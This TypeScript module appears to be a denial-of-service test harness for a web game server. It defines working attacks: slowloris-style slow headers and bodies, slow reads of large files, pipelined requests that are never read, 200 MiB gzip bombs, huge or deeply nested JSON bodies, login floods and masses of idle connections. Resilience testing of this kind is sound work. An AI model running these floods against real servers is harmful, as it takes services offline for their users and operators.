import { randomBytes } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { type Connection, openConnections, type Target } from './connections.ts';
import { uploadInPieces, uploadSlowly } from './upload-attacks.ts';

/** Paths of the largest files that a page may request. */
export type LargestFiles = { readonly script: string; readonly picture: string };

export type Attack = {
  readonly name: string;
  /** Set if players who think and never retry play meanwhile. None of their requests may be cut in this time. */
  readonly thinkingSeconds?: number;
  /** Attacks for the given time, then closes the connections. Returns the number of connections that it opened. */
  run(target: Target, seconds: number, largest: LargestFiles): Promise<number>;
};

const getRequest = (path: string, ...headers: string[]): string =>
  `GET ${path} HTTP/1.1\r\nHost: game.example\r\n${headers.map((header) => `${header}\r\n`).join('')}\r\n`;
const postRequest = (path: string, length: number, ...headers: string[]): string =>
  `POST ${path} HTTP/1.1\r\nHost: game.example\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n${headers
    .map((header) => `${header}\r\n`)
    .join('')}\r\n`;

const acceptCompression = 'Accept-Encoding: br, gzip';
const mebibyte = 1024 * 1024;
/** Just below the usual limit of pipelined requests per connection. */
const requestsPerConnection = 15;

/** Sends the same requests over many connections and never reads the replies. Reopens closed connections. */
function sendAndNeverRead(count: number, requestFor: (largest: LargestFiles) => string): Attack['run'] {
  return async (target, seconds, largest) => {
    const until = performance.now() + seconds * 1000;
    let connections: Connection[] = [];
    let opened = 0;
    while (performance.now() < until) {
      connections = connections.filter(({ isOpen }) => isOpen());
      const fresh = await openConnections(target, Math.min(count, count - connections.length));
      for (const { socket } of fresh) socket.pause().write(requestFor(largest));
      connections.push(...fresh);
      opened += fresh.length;
      await pause(250);
    }
    closeAll(connections);
    return opened;
  };
}

/** Sends the beginning of a request over many connections, then one byte per second. Reopens closed connections. */
function sendSlowly(count: number, beginning: string, rest: string): Attack['run'] {
  return async (target, seconds) => {
    const until = performance.now() + seconds * 1000;
    let connections: Connection[] = [];
    let opened = 0;
    for (let second = 0; performance.now() < until; second++) {
      connections = connections.filter(({ isOpen }) => isOpen());
      for (const { socket } of connections) socket.write(rest[second % rest.length] ?? 'x');
      const fresh = await openConnections(target, count - connections.length);
      for (const { socket } of fresh) socket.write(beginning);
      connections.push(...fresh);
      opened += fresh.length;
      await pause(1_000);
    }
    closeAll(connections);
    return opened;
  };
}

/**
 * Sends whole requests over many connections. Each connection sends its next request as soon as the last one is
 * answered.
 */
function flood(count: number, nextRequest: () => string | Buffer): Attack['run'] {
  return async (target, seconds) => {
    const until = performance.now() + seconds * 1000;
    const connections = await openConnections(target, count);
    await Promise.all(
      connections.map(async ({ socket, isOpen }) => {
        while (isOpen() && performance.now() < until) {
          socket.write(nextRequest());
          await Promise.race([
            new Promise((resolve) => socket.once('data', resolve)),
            pause(Math.max(1, until - performance.now())),
          ]);
        }
      }),
    );
    closeAll(connections);
    return connections.length;
  };
}

/** Requests large files over many connections and reads one byte per second of each. */
function readSlowly(count: number, requestFor: (largest: LargestFiles) => string): Attack['run'] {
  return async (target, seconds, largest) => {
    const until = performance.now() + seconds * 1000;
    const connections = await openConnections(target, count);
    for (const { socket } of connections) socket.pause().write(requestFor(largest));
    while (performance.now() < until) {
      for (const { socket } of connections) socket.read(1);
      await pause(1_000);
    }
    closeAll(connections);
    return connections.length;
  };
}

const closeAll = (connections: readonly Connection[]): void => {
  for (const { socket } of connections) socket.destroy();
};

const bomb = gzipSync(Buffer.alloc(200 * mebibyte));
const longBody = JSON.stringify({ emailAddress: 'x'.repeat(mebibyte - 100), password: 'y' });
const emptyLists = '[],'.repeat(mebibyte / 3 - 10);
const loginRequest = (): string => {
  const body = JSON.stringify({ email: `${randomBytes(6).toString('hex')}@example.org`, password: 'guessed again' });
  return postRequest('/api/login', body.length) + body;
};

export const attacks: readonly Attack[] = [
  {
    name: 'OpenAPI description, 400 requests per connection, never read',
    run: sendAndNeverRead(50, () => getRequest('/api/openapi.json').repeat(400)),
  },
  {
    name: 'the same compressed, 15 requests per connection',
    run: sendAndNeverRead(500, () => getRequest('/api/openapi.json', acceptCompression).repeat(requestsPerConnection)),
  },
  {
    name: 'the page compressed, never read',
    run: sendAndNeverRead(1_000, () => getRequest('/', acceptCompression).repeat(requestsPerConnection)),
  },
  {
    name: 'calls with long answers, never read',
    run: sendAndNeverRead(1_000, () =>
      getRequest('/api/extra/first-scene', acceptCompression).repeat(requestsPerConnection),
    ),
  },
  {
    name: 'files, 400 requests per connection, never read',
    run: sendAndNeverRead(50, ({ script, picture }) => (getRequest(script) + getRequest(picture)).repeat(200)),
  },
  {
    name: 'files, 15 requests per connection, never read',
    run: sendAndNeverRead(
      1_000,
      ({ script, picture }) => getRequest(script) + getRequest(picture).repeat(requestsPerConnection - 1),
    ),
  },
  {
    name: 'files, read one byte per second',
    run: readSlowly(1_000, ({ picture }) => getRequest(picture).repeat(requestsPerConnection)),
  },
  {
    name: 'headers, sent one byte per second',
    run: sendSlowly(2_000, 'GET / HTTP/1.1\r\nHost: game.example\r\n', 'X-Slow: yes, '),
  },
  {
    name: 'headers of 15 kB without an end',
    run: sendSlowly(5_000, `GET / HTTP/1.1\r\nHost: game.example\r\nX-Long: ${'x'.repeat(15_000)}`, 'x'),
  },
  {
    name: 'bodies of 1 MiB without the last bytes',
    run: sendSlowly(500, postRequest('/api/login', mebibyte) + 'x'.repeat(mebibyte - 1_000), 'x'),
  },
  {
    name: 'the same to a path that does not exist',
    run: sendSlowly(500, postRequest('/nothing/here', mebibyte) + 'x'.repeat(mebibyte - 1_000), 'x'),
  },
  {
    name: 'the same in chunks without a length',
    run: sendSlowly(
      500,
      'POST /api/login HTTP/1.1\r\nHost: game.example\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n' +
        `F0000\r\n${'x'.repeat(0xf0000)}\r\n`,
      '1\r\nx\r\n',
    ),
  },
  {
    name: 'gzip bombs of 200 MiB',
    run: flood(50, () =>
      Buffer.concat([Buffer.from(postRequest('/api/login', bomb.length, 'Content-Encoding: gzip')), bomb]),
    ),
  },
  {
    name: 'bodies of 1 MiB, one after the other',
    run: flood(100, () => postRequest('/api/register/emailregisteruser', longBody.length) + longBody),
  },
  {
    name: 'bodies of 1 MiB for calls that need a session',
    run: flood(100, () => postRequest('/api/storylet/choosebranch', longBody.length) + longBody),
  },
  {
    name: 'bodies with 350,000 empty lists',
    run: flood(100, () => `${postRequest('/api/login', emptyLists.length + 4)}[${emptyLists}[]]`),
  },
  { name: 'logins of unknown accounts', run: flood(400, loginRequest) },
  { name: '10,000 idle connections', run: sendAndNeverRead(10_000, () => '') },
  { name: '26 slow uploads of one account', thinkingSeconds: 60, run: uploadSlowly },
  { name: '64 uploads of 16 accounts at once, in pieces', thinkingSeconds: 60, run: uploadInPieces },
];
